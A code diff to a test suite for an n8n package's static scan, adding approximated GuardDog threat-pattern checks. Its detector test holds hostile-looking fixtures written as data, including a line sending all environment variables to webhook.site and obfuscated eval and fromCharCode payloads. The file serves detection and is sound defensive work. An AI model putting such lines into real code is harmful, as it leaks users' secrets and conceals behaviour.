@@ -4,14 +4,18 @@
  * n8n's scanner (@n8n/scan-community-package) lints, with the configuration rebuilt in
  * ./scan/lint.mjs, (1) the unpacked tarball's JavaScript and package.json and (2) the source its
  * npm provenance points at. It also needs that provenance (a publish from GitHub Actions) and runs
- * GuardDog's YARA rules, neither of which can run here. The strict leg is this project's own rule:
+ * GuardDog's YARA rules, neither of which can run here (./scan/threat-patterns.ts approximates the
+ * YARA rules that apply to JavaScript and package.json). The strict leg is this project's own rule:
  * shipped code loads only n8n-workflow, crypto and its own files, and touches no process, file
  * system, child process, timer, network or global object.
  */
-import { cpSync, appendFileSync, writeFileSync } from 'node:fs';
+import { appendFileSync, cpSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 
 import { describeMessages, errorsOf, fixture, listFiles, lint, readPackageJson, ROOT, unpackTarball } from './helpers';
+import { threatFindings } from './scan/threat-patterns';
+
+const readAll = (dir: string) => listFiles(dir).map((path) => ({ path, text: readFileSync(join(dir, path), 'utf8') }));
 
 const TARBALL_FILES = ['**/*.js', 'package.json'];
 const SOURCE_FILES = ['package.json', '{nodes,credentials}/**/*.{js,ts,json}'];
@@ -44,6 +48,10 @@ describe('static scan of the package', () => {
 		expect(files).toEqual(listFiles(tarball.dir).filter((file) => file.endsWith('.js')));
 		expect(files).toContain('dist/nodes/PgAi/PgAi.node.js');
 		expect(describeMessages(messages)).toBe('');
+	});
+
+	it('the unpacked tarball matches none of the approximated GuardDog threat patterns', () => {
+		expect(threatFindings(readAll(tarball.dir))).toEqual([]);
 	});
 
 	describe('each leg fails on bad code', () => {
@@ -101,6 +109,28 @@ describe('static scan of the package', () => {
 			} finally {
 				bad.cleanup();
 			}
+		});
+
+		it('the threat patterns find install scripts, secret reads, shady links and obfuscation', () => {
+			const js = (text: string) => ({ path: 'dist/x.js', text });
+			expect(
+				threatFindings([
+					{ path: 'package.json', text: '{ "scripts": { "preinstall": "node x.js" } }' },
+					js('const k = process.env.OPENAI_API_KEY;'),
+					js("post('https://webhook.site/abc', JSON.stringify(process.env));"),
+					js('if ([!![]]+[]) {}'),
+					js('String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108);'),
+					js('eval(atob("YWxlcnQoMSk="));'),
+				]),
+			).toEqual([
+				'package.json: npm-preinstall-script',
+				'dist/x.js: runtime-environment-read',
+				'dist/x.js: runtime-environment-read',
+				'dist/x.js: network-outbound-shady-links',
+				'dist/x.js: runtime-obfuscation-jsfuck',
+				'dist/x.js: runtime-obfuscation-fromcharcode',
+				'dist/x.js: runtime-obfuscation-base64-exec',
+			]);
 		});
 
 		it('the strict leg rejects what the scanner lets through: a devDependency, and each forbidden global or module', () => {
